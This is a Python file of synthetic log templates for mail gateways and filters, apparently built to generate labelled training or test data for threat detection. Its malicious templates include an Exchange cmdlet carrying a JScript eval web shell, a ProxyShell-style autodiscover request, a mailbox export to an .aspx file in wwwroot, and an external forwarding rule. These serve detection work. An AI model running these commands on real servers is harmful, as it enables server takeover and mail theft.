"""Messages of mail gateways and filters."""

from generator.families.network.product_story import catalogue

catalogue("network/product-mail-gateways", ("|{msg}", "={plain} {msg}", "=<22>{time} {host} {msg}"), r"""
MW mimecast: datetime={iso}|aCode={word}|acc=C{id}|Virus={mal}|Sender={out}|Recipient={mail}|fileName={file}.xlsm|Subject=Invoice {id}|Act=<<Acc|Held|Rej>>
PH mimecast: datetime={iso}|reason=malicious|url=https://{ext}/office365/login|sender={out}|recipient={mail}|urlCategory=Phishing & Fraud|scanResult=malicious|action=<<allow|warn>>|sourceIp={lan}
PH@T1534 mimecast: datetime={iso}|Definition=Impersonation Protect - CEO|InternalName=true|SimilarInternalDomain=true|Hits={few}|Sender={out}|Recipient={mail}|Subject=urgent wire transfer|Action=<<none|hold|tag>>
PH@T1566.002 proofpoint: {"eventType":"<<clickPermitted|messagesDelivered>>","classification":"phish","threatStatus":"active","sender":"{out}","recipient":["{mail}"],"threatUrl":"https://{ext}/owa/","campaignId":"{uuid}"}
PH@T1566.001 proofpoint: {"eventType":"messagesDelivered","classification":"malware","threatStatus":"active","filename":"{file}.zip","sha256":"{sha}","sender":"{out}","recipient":["{mail}"],"malwareScore":100}
AT+@T1078.004,T1110 proofpoint: {"eventType":"suspiciousLogin","user":"{mail}","ip":"{wan}","country":"{land}","reason":"impossible travel","severity":"critical"}
PH@T1566.001 barracuda: scan[{n}]: {wan} {queue} SCAN - SUBJECT:Payment advice {id} VIRUS {mal} <<delivered before pattern|blocked>> {out} {mail}
MW amavis[{n}]>> ({n}-{n2}) <<Blocked INFECTED ({mal}) {DiscardedInbound,Quarantined}|Passed INFECTED ({mal}) {RelayedTaggedInbound}>>, [{wan}]:{port} [{wan}] <{out}> -> <{mail}>, Queue-ID: {queue}, mail_id: {word}, Hits: -, size: {big}
PH@T1566.001 amavis[{n}]>> ({n}-{n2}) Passed BANNED (.exe,.exe-ms,{file}.pdf.exe) {RelayedInbound}, [{wan}]:{port} <{out}> -> <{mail}>, Hits: 4.{n}
PH@T1566.001 rspamd[{n}]>> <{hex}>; proxy; rspamd_task_write_log: id: <{word}@{ext}>, ip: {wan}, from: <{out}>, (default: T (<<no action|reject>>): [{n}.20/15.00] [CLAM_VIRUS(0.00){{mal};},MIME_BAD_EXTENSION(8.00){<<js|iso|lnk>>;}])
PH rspamd[{n}]>> <{hex}>; task; id: <{word}@{ext}>, ip: {wan}, (default: F (no action): [9.{n}/15.00] [PHISHED_OPENPHISH(7.00){{ext};},FROM_NAME_SPOOF_OWN_CEO(3.00){},DMARC_POLICY_REJECT(2.00){{domain} : none;}]) rcpt {mail}
PH@T1566.001 MailScanner[{n}]>> Infected message {queue}.{hex} came from {wan}; {mal} in {file}.doc, <<delivered|quarantined>>
BF# MSExchangeFrontEndTransport: Event 1035 Inbound authentication failed with error LogonDenied for Receive connector Default Frontend. The authentication mechanism is Login. The source IP address of the client who tried to authenticate to Microsoft Exchange is [{wan}].
BF# IMAP4: {iso},{hex},{n},{lan}:993,{any}:{port},{word}@{domain},{n},LOGIN,"NO AuthFailed:LogonDenied"
MB@T1114.003 MSExchange CmdletLogs: New-InboxRule -Mailbox {mail} -Name "." -ForwardTo {out} -DeleteMessage True, user {mail}, OWA from {wan}
MB@T1098.002 MSExchange CmdletLogs: Add-MailboxPermission -Identity {mail} -User {word} -AccessRights FullAccess, executed by {user} from {wan}
MB@T1114.002 MSExchange CmdletLogs: New-MailboxExportRequest -Mailbox {mail} -FilePath \\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\{word}.aspx
WS MSExchange CmdletLogs: Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["{word}"],"unsafe");}</script>'
SR OWA: POST /autodiscover/autodiscover.json?@{ext}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@{ext} from {wan} 200
BF# dovecot>> auth: passwd-file({mail},{wan}): Password mismatch
BF# saslauthd[{n}]>> do_auth : auth failure: [user={word}] [service=smtp] [realm={domain}] [mech=pam] [reason=PAM auth error] ({any})
MB@T1534 spamd: outbound: account {mail} sent {big} messages to {big} recipients within {few} minutes from {wan}, queue frozen
""", r"""
BN mimecast: datetime={iso}|aCode={word}|acc=C{id}|SpamScore={n}|Sender={out}|Recipient={mail}|Subject=Win a prize|Act=Rej|RejType=Spam Signature
AE mimecast: datetime={iso}|reason=clean|url=https://{ext}/news|sender={out}|recipient={mail}|urlCategory=Business|scanResult=clean|action=allow
AE mimecast: datetime={iso}|Sender={out}|Recipient={mail}|fileName={file}.zip|Act=Hld|HldReason=Encrypted attachment,
LO mimecast: datetime={iso}|type=Logon|user={mail}|src={lan}|App=Administration Console|Success
MP. mimecast: datetime={iso}|type=Logon Failed|user={mail}|src={wan}|reason=Incorrect password
AD mimecast: datetime={iso}|type=Policy Edited|user={adm}|policy=Permitted Senders: add {ext}
AE proofpoint: {"eventType":"messagesBlocked","classification":"spam","threatStatus":"cleared","sender":"{out}","recipient":["{mail}"],"spamScore":{pct}}
AE proofpoint: {"eventType":"clickPermitted","classification":"clean","threatStatus":"falsePositive","url":"https://{ext}/survey","recipient":["{mail}"]}
BN barracuda: scan[{n}]: {wan} {queue} SCAN - SUBJECT:Newsletter {id} SPAM score {few}.{n} quarantined {out} {mail}
BN barracuda: RECV - {wan} 1 4 reputation: Barracuda Reputation block list {out} {mail}
BN amavis[{n}]>> ({n}-{n2}) Blocked SPAM {DiscardedInbound}, [{wan}]:{port} <{out}> -> <{mail}>, Hits: {n}.{few}, size: {big}
AE amavis[{n}]>> ({n}-{n2}) Passed CLEAN {RelayedInbound}, [{wan}]:{port} <{out}> -> <{mail}>, Queue-ID: {queue}, Hits: -1.{n}
AE amavis[{n}]>> ({n}-{n2}) Passed UNCHECKED-ENCRYPTED {RelayedInbound}, [{wan}]:{port} <{out}> -> <{mail}>, {file}.zip
ER amavis[{n}]>> ({n}-{n2}) (!)ClamAV-clamd av-scanner FAILED: run_av error: Too many retries to talk to /run/clamav/clamd.ctl
BN rspamd[{n}]>> <{hex}>; proxy; id: <{word}@{ext}>, ip: {wan}, (default: T (reject): [{n}.30/15.00] [BAYES_SPAM(5.10){100.00%;},RBL_SPAMHAUS(4.00){{wan}:from;},SUBJ_ALL_CAPS(2.10){}])
AE rspamd[{n}]>> <{hex}>; proxy; id: <{word}@{ext}>, ip: {wan}, (default: F (no action): [-1.{n}/15.00] [BAYES_HAM(-3.00){99.99%;},R_DKIM_ALLOW(-0.20){},ARC_NA(0.00){}])
BN rspamd[{n}]>> <{hex}>; proxy; id: <{word}@{ext}>, (default: F (soft reject): [6.{n}/15.00] [GREYLIST(0.00){greylisted;}])
AE spamd[{n}]>> spamd: clean message (-0.{n}/5.0) for {user}:1000 in {few}.{n} seconds, {big} bytes.
BN spamd[{n}]>> spamd: identified spam ({n}.1/5.0) for {user}:1000, tests=BAYES_99,URIBL_ABUSE_SURBL,FREEMAIL_FORGED_REPLYTO
ER spamd[{n}]>> spamd: timeout: child processing timeout at /usr/sbin/spamd line {many}
SJ sa-update>> spamassassin: update of rules finished, no fresh updates available
SY MailScanner[{n}]>> New Batch: Scanning {few} messages, {big} bytes
SC MailScanner[{n}]>> Virus and Content Scanning: {few} messages clean
NS MSExchangeTransport: Event 12016 There is no valid SMTP Transport Layer Security certificate for the FQDN of {host}.
SY MSExchangeTransport: Event 15006 Microsoft Exchange Transport is rejecting message submissions because the available disk space has dropped below the configured threshold.
SY MSExchangeIS: Event 1009 The mailbox database "{word}" failed over to {host2}
MP. MSExchangeFrontEndTransport: Event 1035 Inbound authentication failed with error LogonDenied for Receive connector Client Frontend. The source IP address is [{lan}]
AD MSExchange CmdletLogs: <<Set-Mailbox -Identity {mail} -ProhibitSendQuota 40GB|New-DistributionGroup -Name {word}|Set-MailboxAutoReplyConfiguration -Identity {mail} -AutoReplyState Enabled|Add-MailboxPermission -Identity info@{domain} -User {user} -AccessRights FullAccess>>, executed by {adm} from {lan}
AE MSExchange CmdletLogs: New-InboxRule -Mailbox {mail} -Name "Newsletter" -MoveToFolder Newsletter, user {mail}, Outlook from {lan}
LO dovecot>> imap-login: Login: user=<{mail}>, method=PLAIN, rip={any}, lip={lan}, mpid={big}, TLS
MP. dovecot>> auth: passwd-file({mail},{any}): Password mismatch
BN MSExchangeTransport agent log: Sender Id Agent,OnEndOfHeaders,RejectMessage,550 5.7.1 {out} Missing PRA / DMARC fail {wan}
AE spamd: outbound: newsletter of {mail} sent to {big} recipients by campaign tool, rate limited to {n} a minute
""")
